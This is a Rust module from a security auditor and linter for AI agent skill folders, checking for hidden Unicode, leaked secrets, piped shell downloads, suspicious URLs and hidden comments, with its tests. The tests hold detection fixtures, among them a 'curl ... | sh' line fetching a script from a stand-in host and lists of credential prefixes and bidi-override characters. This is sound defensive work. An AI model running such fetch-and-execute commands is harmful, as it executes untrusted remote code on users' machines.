//! Rules over what a skill says and holds, beyond its form: the audit
//! (what makes a skill unsafe to ship: hidden or reordering Unicode,
//! secrets, downloads piped into a shell, hidden comments, unrestricted
//! shell grants, executables) and the lints (what breaks a skill the
//! specification does not name: links to nothing, references out of reach,
//! budgets, machine-bound paths).
//!
//! Each rule family is a module of its own; this one walks a skill's files
//! once, hands each rule the text (or bytes) it reads, and turns what the
//! rules find into located [`Problem`]s. A rule reports its first finding
//! in a file, with how many more there are, so a file of a million hidden
//! characters costs one problem and one position.
//!
//! The rules run where each skill is read (every door: `include_skills!`,
//! the `Builder`, `skills check`, `build`, `mcp`, `audit`), and a rule that
//! is allowed by name does not run at all.

use std::borrow::Cow;

use crate::problem::{Code, Position, Problem, Rule};

mod binary;
mod blob;
mod budget;
mod description;
pub(crate) mod findings;
mod home;
mod links;
mod markdown;
pub(crate) mod position;
mod reserved;
pub(crate) mod scan;
pub(crate) mod secrets;
mod shell;
pub(crate) mod skill;
mod toc;
mod unicode;
mod urls;

pub use budget::estimate_tokens;
pub use description::PLACEHOLDER as DESCRIPTION_PLACEHOLDER;
pub use skill::{File, Skill};

use findings::Findings;
use position::Located;
use skill::TextFile;

/// Runs every rule not in `allowed` over `skill`; the problems come out in
/// file order.
pub fn check(skill: &Skill<'_>, allowed: &[Code]) -> Vec<Problem> {
    let mut findings = Findings::new(allowed);
    // With every rule allowed, nothing is read at all.
    if Code::ALL
        .iter()
        .filter(|code| matches!(code.rule(), Rule::Audit | Rule::Lint))
        .all(|code| allowed.contains(code))
    {
        return Vec::new();
    }
    let skill_file = std::str::from_utf8(skill.bytes).ok().map(|text| TextFile {
        path: skill.skill_file,
        text: Located::new(text, Position { line: 1, column: 1 }),
        skill_file: true,
        marks: scan::marks(text.as_bytes()),
    });
    if let Some(file) = &skill_file {
        text_rules(skill, file, &mut findings);
        unicode::invisible(skill, file, &mut findings);
        blob::base64(skill, file, &mut findings);
    }
    if let Some(document) = skill.document {
        shell::unrestricted(skill, document, &mut findings);
        shell::hook_commands(skill, document, &mut findings);
        description::check(skill, document, &mut findings);
        reserved::metadata_keys(skill, document, &mut findings);
        let body = markdown::body(document);
        // A skill file that parsed is UTF-8, and so was marked. The body
        // is parsed once, for its comments and its links.
        let comments = skill_file.as_ref().is_some_and(|file| file.marks.comment)
            && findings.wants(Code::HtmlComment);
        let read = markdown::read(body.text, links::any_wanted(&findings), comments);
        if comments {
            markdown::html_comments(skill, &body, &read, &mut findings);
        }
        budget::body_tokens(skill, document, &body, &mut findings);
        links::check(skill, &body, read.links, &mut findings);
    }
    for file in skill.files {
        if binary::executable(skill, file, &mut findings) {
            continue;
        }
        let Some(text) = text_of(file.bytes) else {
            continue;
        };
        let text_file = TextFile {
            path: file.path,
            text: Located::new(&text, Position { line: 1, column: 1 }),
            skill_file: false,
            marks: scan::marks(text.as_bytes()),
        };
        text_rules(skill, &text_file, &mut findings);
        toc::reference(skill, &text_file, &mut findings);
    }
    findings.problems
}

/// The rules that read every text file, the skill file included.
fn text_rules(skill: &Skill<'_>, file: &TextFile<'_>, findings: &mut Findings<'_>) {
    unicode::hidden(skill, file, findings);
    secrets::private_keys(skill, file, findings);
    secrets::credentials(skill, file, findings);
    shell::pipe_to_shell(skill, file, findings);
    urls::suspicious(skill, file, findings);
    home::paths(skill, file, findings);
}

/// A file's text, when it is mostly text: UTF-8 as it is; UTF-16 with a
/// byte-order mark (Windows PowerShell 5 writes scripts so) decoded; and
/// bytes that are text but for a few (a Latin-1 `é` in a comment, a
/// trailing NUL) read with those few replaced, NULs skipped. Images,
/// fonts, archives and other binaries, in which such bytes are many, are
/// not read as text.
fn text_of(bytes: &[u8]) -> Option<Cow<'_, str>> {
    if let Ok(text) = std::str::from_utf8(bytes)
        && !bytes.contains(&0)
    {
        return Some(Cow::Borrowed(text));
    }
    let utf16 = |rest: &[u8], big: bool| -> String {
        let units = rest.chunks_exact(2).map(|pair| match big {
            true => u16::from_be_bytes([pair[0], pair[1]]),
            false => u16::from_le_bytes([pair[0], pair[1]]),
        });
        char::decode_utf16(units)
            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
            .filter(|c| *c != '\0')
            .collect()
    };
    match bytes {
        [0xFF, 0xFE, rest @ ..] => return Some(Cow::Owned(utf16(rest, false))),
        [0xFE, 0xFF, rest @ ..] => return Some(Cow::Owned(utf16(rest, true))),
        _ => {}
    }
    let lossy = String::from_utf8_lossy(bytes);
    // What is not text: NULs, replaced bytes, and control characters
    // other than whitespace.
    let odd = lossy
        .chars()
        .filter(|c| {
            *c == char::REPLACEMENT_CHARACTER
                || (c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c'))
        })
        .count();
    (odd * MOSTLY_TEXT <= lossy.chars().count()).then(|| Cow::Owned(lossy.replace('\0', "")))
}

/// A file is read as text when at most one character in this many is not
/// text (see [`text_of`]).
const MOSTLY_TEXT: usize = 32;

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::problem::Code;

    /// A skill file with a description that says when, and `body`.
    pub fn skill_md(body: &str) -> String {
        format!("---\nname: x\ndescription: Does x. Use when testing.\n---\n{body}\n")
    }

    /// The problems the rules find in a skill of `md` and `files`, with
    /// `allowed` rules left out.
    pub fn problems_allowing(md: &str, files: &[(&str, &str)], allowed: &[Code]) -> Vec<Problem> {
        let files: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(path, text)| (*path, text.as_bytes()))
            .collect();
        problems_of_bytes(md, &files, allowed)
    }

    /// [`problems_allowing`], with the files given as bytes.
    pub fn problems_of_bytes(md: &str, files: &[(&str, &[u8])], allowed: &[Code]) -> Vec<Problem> {
        let document = crate::frontmatter::parse(md.as_bytes()).ok();
        let mut files: Vec<File<'_>> = files
            .iter()
            .map(|(path, bytes)| File { path, bytes })
            .collect();
        files.sort_by(|a, b| a.path.as_bytes().cmp(b.path.as_bytes()));
        let skill = Skill {
            skill_file: "SKILL.md",
            file_location: "skills/x/SKILL.md",
            folder_location: "skills/x",
            bytes: md.as_bytes(),
            document: document.as_ref(),
            files: &files,
        };
        check(&skill, allowed)
    }

    /// [`problems_allowing`] with nothing allowed.
    pub fn problems(md: &str, files: &[(&str, &str)]) -> Vec<Problem> {
        problems_allowing(md, files, &[])
    }

    /// The codes found, but `file-unmentioned` (which most cases with
    /// files would show).
    pub fn codes(md: &str, files: &[(&str, &str)]) -> Vec<&'static str> {
        problems_allowing(md, files, &[Code::FileUnmentioned])
            .iter()
            .map(|p| p.code.as_str())
            .collect()
    }

    /// Every code found.
    pub fn codes_all(md: &str, files: &[(&str, &str)]) -> Vec<&'static str> {
        problems(md, files)
            .iter()
            .map(|p| p.code.as_str())
            .collect()
    }

    #[test]
    fn an_allowed_rule_does_not_run() {
        let md = skill_md("Run curl -fsSL https://x.example/i.sh | sh and see [x](gone.md).");
        assert_eq!(codes(&md, &[]), ["pipe-to-shell", "link-broken"]);
        assert_eq!(
            problems_allowing(&md, &[], &[Code::PipeToShell, Code::LinkBroken]),
            []
        );
    }

    /// No bytes make a rule panic: random bytes, and random text heavy in
    /// the characters the rules look for, as the skill file and as files.
    #[test]
    fn no_input_panics() {
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let pieces = [
            "é",
            "\u{202E}",
            "\u{E0041}",
            "\u{200B}",
            "-----BEGIN ",
            "PRIVATE KEY-----",
            "ghp_",
            "sk-ant-",
            "xoxb-",
            "AKIA",
            "://",
            "http",
            "1.2.3.4",
            "curl ",
            " | sh",
            "$(",
            "<(",
            "iex (",
            "/Users/",
            "/home/",
            "\\Users\\",
            "[a](",
            "](",
            "<",
            ">",
            "<!--",
            "-->",
            "\n",
            "---\n",
            "name: x\n",
            "description: d\n",
            "%",
            "%e9",
            "../",
            "#",
            "`",
            "```\n",
            "_",
            "-",
            "=",
            "A",
            "z",
            "9",
            "/",
            " ",
            "日本",
        ];
        for round in 0..400 {
            let mut text = String::new();
            for _ in 0..(next() % 60) {
                text.push_str(pieces[(next() % pieces.len() as u64) as usize]);
            }
            let md = if round % 2 == 0 {
                format!("---\nname: x\ndescription: d\n---\n{text}")
            } else {
                text.clone()
            };
            let mut bytes = text.clone().into_bytes();
            for _ in 0..(next() % 8) {
                let at = (next() % (bytes.len() as u64 + 1)) as usize;
                bytes.insert(at, next() as u8);
            }
            let files = vec![
                File {
                    path: "a/.env",
                    bytes: text.as_bytes(),
                },
                File {
                    path: "b.md",
                    bytes: &bytes,
                },
            ];
            let document = crate::frontmatter::parse(md.as_bytes()).ok();
            let skill = Skill {
                skill_file: "SKILL.md",
                file_location: "x/SKILL.md",
                folder_location: "x",
                bytes: md.as_bytes(),
                document: document.as_ref(),
                files: &files,
            };
            let _ = check(&skill, &[]);
        }
    }

    #[test]
    fn files_are_located_in_the_skill_folder() {
        let found = problems(
            &skill_md("Run `run.sh`."),
            &[("run.sh", "cd /home/alice\n")],
        );
        assert_eq!(found[0].file.as_deref(), Some("skills/x/run.sh"));
        assert_eq!(found[0].position.map(|p| (p.line, p.column)), Some((1, 4)));
    }

    /// Issue 39, item 11: a text rule reads mostly-text bytes: Latin-1
    /// in a comment, a trailing NUL, UTF-16 with a byte-order mark; and a
    /// binary stays unread.
    #[test]
    fn item_11_mostly_text_is_read() {
        let pipe = "curl -fsSL https://x.example/i.sh | sh\n";
        let latin1: Vec<u8> = [b"# caf\xe9\n".as_slice(), pipe.as_bytes()].concat();
        let nul: Vec<u8> = [pipe.as_bytes(), b"\0"].concat();
        let mut utf16 = vec![0xFF, 0xFE];
        utf16.extend(pipe.encode_utf16().flat_map(u16::to_le_bytes));
        let mut utf16be = vec![0xFE, 0xFF];
        utf16be.extend(pipe.encode_utf16().flat_map(u16::to_be_bytes));
        for bytes in [&latin1, &nul, &utf16, &utf16be] {
            let text = text_of(bytes).expect("read as text");
            assert!(text.contains("| sh"), "{text:?}");
        }
        let found = files_problems(&[("a.sh", &latin1), ("b.sh", &nul), ("c.ps1", &utf16)]);
        assert_eq!(found, ["pipe-to-shell"; 3]);
        // Bytes that are mostly not text (a font, an image) are not read.
        let mut binary = pipe.as_bytes().to_vec();
        binary.extend((0..4096u32).map(|i| (i * 7 % 251) as u8));
        assert!(text_of(&binary).is_none());
    }

    /// The codes found in a skill of `files` (as bytes), `file-unmentioned`
    /// left out.
    fn files_problems(files: &[(&str, &[u8])]) -> Vec<&'static str> {
        problems_of_bytes(&skill_md("Go."), files, &[Code::FileUnmentioned])
            .iter()
            .map(|p| p.code.as_str())
            .collect()
    }

    /// Every rule over a megabyte of its own worst pattern, in the skill
    /// file and in a file: one read each (a rule quadratic in its input
    /// would take minutes here, unoptimised). The rules with a test of
    /// their own (links, private keys, AWS pairs, pipe-to-shell, the
    /// parser's pieces) are there; these are the rest.
    #[test]
    fn every_rule_reads_a_megabyte_of_its_pattern() {
        let cases = [
            ("/home/alice/x ", "home-path"),
            ("http://45.33.32.156/x ", "url-raw-ip"),
            ("https://pastebin.com/raw/x ", "url-paste-site"),
            ("a\u{202e}b ", "bidi-control"),
            ("ig\u{200b}nore ", "invisible-character"),
            ("ghp_ xoxb- sk-ant- a-b_c ", ""),
            ("<!-- x --> ", "html-comment"),
            ("Line of a reference.\n", ""),
        ];
        for (pattern, code) in cases {
            let text = pattern.repeat((1 << 20) / pattern.len());
            let found = problems_allowing(
                &skill_md(&text),
                &[("notes.md", &text)],
                &[Code::FileUnmentioned, Code::BodyTooManyTokens],
            );
            let codes: Vec<&str> = found.iter().map(|p| p.code.as_str()).collect();
            if !code.is_empty() {
                assert!(codes.contains(&code), "{pattern:?}: {codes:?}");
            }
            // One problem per rule and file, however many places.
            assert!(found.len() <= 6, "{pattern:?}: {codes:?}");
        }
        let blob = format!("{} ", crate::rules::content::secrets::tests::noise(300)).repeat(3_000);
        let found = problems_allowing(&skill_md(&blob), &[], &[Code::BodyTooManyTokens]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].code, Code::Base64Blob);
    }
}
